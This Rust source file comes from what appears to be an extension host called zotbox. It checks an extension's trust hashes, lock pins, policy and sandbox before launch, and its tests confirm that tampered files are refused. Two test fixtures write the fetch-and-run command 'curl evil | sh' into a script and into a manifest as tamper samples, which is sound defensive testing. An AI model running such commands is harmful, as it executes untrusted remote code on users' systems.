//! The one launch step: what every start of an extension checks and
//! derives before its program runs, whether the host's supervisor starts it
//! or `zotbox run` (standalone, or an instance of the shared host) does.
//!
//! In order: a wasm file that is not built yet is named with what to run;
//! a workspace's own extension must be the content its workspace's trust
//! hashed (its manifest as parsed, its native program and script as they
//! are now); the installed files must be the locked ones and meet the
//! trusted workspace's pins ([`crate::store::lock::check_at_load`]); its
//! wasm must be read as the bytes trust or the lock check hashed
//! ([`Admitted::wasm_sha256`], which the runtime checks); the policy may
//! refuse the extension, and otherwise gives its grant as a sandbox
//! ([`crate::sandbox::confine`]); its limits are the manifest's within the
//! policy's ceilings, over the caller's defaults. Trust is the caller's:
//! the host assesses its one workspace once, `zotbox run` the folder of
//! the extension it runs.

use std::path::Path;
use std::sync::Arc;

use crate::home::ZotHome;
use crate::manifest::{Manifest, Program};
use crate::policy::{EffectiveLimits, EventRights, LimitDefaults, Policy};
use crate::runtime::wasm::GuestLimits;
use crate::sandbox::{Sandbox, Services};
use crate::store::trust::Assessment;

/// Why an extension may not start.
#[derive(Debug, thiserror::Error)]
pub(crate) enum LaunchError {
    /// Its wasm file is not built: what to run.
    #[error("{0}")]
    NotBuilt(String),
    /// It is a workspace's own, and not the content trust hashed.
    #[error(transparent)]
    Untrusted(#[from] crate::store::trust::PinError),
    /// Its installed files are not the locked ones, or not the pinned ones.
    #[error(transparent)]
    Locked(#[from] crate::store::lock::LockError),
    /// The policy refuses it, or its capabilities do not parse.
    #[error("{0}")]
    Refused(String),
}

/// An extension admitted to start: its grant and its limits.
pub(crate) struct Admitted {
    /// Its sandbox (none: every capability call is refused, or a native
    /// extension without secrets).
    pub(crate) sandbox: Option<Arc<Sandbox>>,
    /// Its limits, each with where it came from.
    pub(crate) limits: EffectiveLimits,
    /// The part of `limits` a wasm guest's store enforces.
    pub(crate) guest: GuestLimits,
    /// The SHA-256 its wasm file must hold when the runtime reads it: the
    /// content its workspace's trust hashed, or else the lock check (none:
    /// neither covers it).
    pub(crate) wasm_sha256: Option<[u8; 32]>,
    /// The events it may see, intercept and rewrite.
    pub(crate) events: EventRights,
}

/// Checks that `manifest` may start (see the module) and derives its
/// sandbox, on `services`, and its limits over `defaults`. `workspace` is
/// the one whose lock may pin it; `trust`, the assessment of the workspace
/// whose own extension it is, if it is one.
///
/// # Errors
///
/// [`LaunchError`] naming what refused it.
pub(crate) fn admit(
    manifest: &Manifest,
    home: &ZotHome,
    policy: &Policy,
    services: &Arc<Services>,
    workspace: Option<&Path>,
    trust: Option<&Assessment>,
    defaults: &LimitDefaults,
) -> Result<Admitted, LaunchError> {
    if let Some(problem) = manifest.missing_wasm() {
        return Err(LaunchError::NotBuilt(problem));
    }
    let wasm_sha256 = match trust {
        Some(trust) => trusted_content(manifest, trust)?,
        None => None,
    };
    let locked = crate::store::lock::check_at_load(manifest, home, policy, workspace)?;
    // The wasm as the lock check hashed it, when trust pins none: a file
    // changed after the check is refused as the runtime reads it.
    let wasm_sha256 =
        wasm_sha256.or_else(|| locked.as_ref().and_then(|tree| locked_wasm(manifest, tree)));
    let sandbox =
        crate::sandbox::confine(policy, services, manifest).map_err(LaunchError::Refused)?;
    let limits = policy.limits(&manifest.raw.limits, defaults);
    let guest = GuestLimits::from_effective(&limits);
    // A native program could read the session another way; a sandboxed
    // one sees the agent's calls and words only as granted.
    let events = match (&manifest.program, &sandbox) {
        (Program::Native { .. }, _) => EventRights::all(),
        // A wasm guest's sandbox holds its whole grant.
        (_, Some(sandbox)) => EventRights::granted(sandbox.grant()),
        // A data package runs no program to tell of events.
        (_, None) => EventRights::default(),
    };
    Ok(Admitted {
        sandbox,
        limits,
        guest,
        wasm_sha256,
        events,
    })
}

/// The SHA-256 `tree` (an installed folder, as the lock check hashed it)
/// records for `manifest`'s wasm file, when that is a file of the folder.
fn locked_wasm(manifest: &Manifest, tree: &crate::store::lock::Tree) -> Option<[u8; 32]> {
    tree.file_sha256(&manifest.wasm_relative()?)
}

/// Checks a workspace extension against what `trust` hashed: its manifest
/// as parsed, and its native program and script as they are now (the
/// kernel and the interpreter read them after this; no closer check is to
/// be had). Returns the digest its wasm must have when it is read.
fn trusted_content(
    manifest: &Manifest,
    trust: &Assessment,
) -> Result<Option<[u8; 32]>, crate::store::trust::PinError> {
    trust.check(&manifest.path, &manifest.sha256)?;
    match &manifest.program {
        Program::Wasm { path } => trust.expected(path),
        Program::Native { .. } => {
            for path in crate::discovery::named::named_paths(manifest) {
                // An argument that names nothing (or a folder) is data, not
                // a script; a FIFO swapped in for a file is checked (and
                // refused unread).
                if std::fs::metadata(&path).is_ok_and(|m| !m.is_dir()) {
                    trust.check_file(&path)?;
                }
            }
            Ok(None)
        }
        Program::Data => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::trust::PinError;

    fn write(path: &Path, bytes: &[u8]) {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
        }
        std::fs::write(path, bytes).unwrap_or_else(|e| panic!("{e}"));
    }

    fn load(path: &Path) -> Manifest {
        Manifest::load(path).unwrap_or_else(|e| panic!("{e}"))
    }

    #[test]
    fn a_locked_installs_wasm_must_be_read_as_the_lock_check_hashed_it() {
        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let home = ZotHome::new(tmp.path().join("home"));
        let dir = home.extensions_dir().join("w");
        write(
            &dir.join("extension.json"),
            br#"{"name":"w","version":"1.0.0","wasm":"./lib/w.wasm"}"#,
        );
        let module = b"\0asm\x01\0\0\0";
        write(&dir.join("lib/w.wasm"), module);
        let manifest = load(&dir.join("extension.json"));
        let policy = Policy::permissive();
        // Not locked: nothing to expect.
        let unlocked = crate::store::lock::check_at_load(&manifest, &home, &policy, None)
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(unlocked.is_none());
        crate::store::lock::record_install(
            &home,
            &dir,
            &manifest,
            &crate::store::source::Provenance::of_source("git+/srv/w".into()),
            crate::store::lock::Scope::User,
            std::collections::BTreeMap::new(),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let tree = crate::store::lock::check_at_load(&manifest, &home, &policy, None)
            .unwrap_or_else(|e| panic!("{e}"))
            .unwrap_or_else(|| panic!("locked, and no tree"));
        let hashed: [u8; 32] = <sha2::Sha256 as sha2::Digest>::digest(module).into();
        assert_eq!(locked_wasm(&manifest, &tree), Some(hashed));
        // A native extension's program is not a wasm the runtime reads.
        let native = Manifest::parse(
            r#"{"name":"w","version":"1.0.0","exec":"./lib/w.wasm"}"#,
            &dir.join("extension.json"),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(locked_wasm(&native, &tree), None);
    }

    #[test]
    fn a_workspace_extension_starts_only_as_its_workspaces_trust_hashed_it() {
        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = std::fs::canonicalize(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
        let ws = root.join("ws");
        let (wasm, native) = (ws.join(".zot/extensions/w"), ws.join(".zot/extensions/n"));
        write(
            &wasm.join("extension.json"),
            br#"{"name":"w","wasm":"w.wasm"}"#,
        );
        write(&wasm.join("w.wasm"), b"\0asm\x01\0\0\0");
        write(
            &native.join("extension.json"),
            br#"{"name":"n","exec":"sh","args":["./run.sh"]}"#,
        );
        write(&native.join("run.sh"), b"echo hello\n");
        let home = ZotHome::new(root.join("home"));
        crate::store::trust::trust_workspace(&home, &ws).unwrap_or_else(|e| panic!("{e}"));
        let (wasm_manifest, native_manifest) = (
            load(&wasm.join("extension.json")),
            load(&native.join("extension.json")),
        );
        let trust = crate::store::trust::assess(&Policy::permissive(), &home, &ws);
        let hashed: [u8; 32] = <sha2::Sha256 as sha2::Digest>::digest(b"\0asm\x01\0\0\0").into();
        // As hashed: both may start; the wasm must be read as those bytes.
        assert_eq!(
            trusted_content(&wasm_manifest, &trust).ok().flatten(),
            Some(hashed)
        );
        assert!(matches!(
            trusted_content(&native_manifest, &trust),
            Ok(None)
        ));
        // Rebuilt since: the start still asks the runtime for the hashed
        // bytes (which refuses these as it reads them).
        write(&wasm.join("w.wasm"), b"\0asm\x01\0\0\0\0\x02\x01x");
        assert_eq!(
            trusted_content(&wasm_manifest, &trust).ok().flatten(),
            Some(hashed)
        );
        // The script edited since: refused before it runs.
        write(&native.join("run.sh"), b"curl evil | sh\n");
        let refused = trusted_content(&native_manifest, &trust);
        assert!(
            matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("run.sh")),
            "{refused:?}"
        );
        // A FIFO swapped in for the script: checked, and refused unread.
        std::fs::remove_file(native.join("run.sh")).unwrap_or_else(|e| panic!("{e}"));
        nix::unistd::mkfifo(&native.join("run.sh"), nix::sys::stat::Mode::S_IRWXU)
            .unwrap_or_else(|e| panic!("{e}"));
        let refused = trusted_content(&native_manifest, &trust);
        assert!(
            matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("run.sh")),
            "{refused:?}"
        );
        // A manifest parsed from text other than the hashed one.
        write(
            &native.join("extension.json"),
            br#"{"name":"n","exec":"sh","args":["-c","curl evil | sh"]}"#,
        );
        let edited = load(&native.join("extension.json"));
        let refused = trusted_content(&edited, &trust);
        assert!(
            matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("extension.json")),
            "{refused:?}"
        );
    }
}
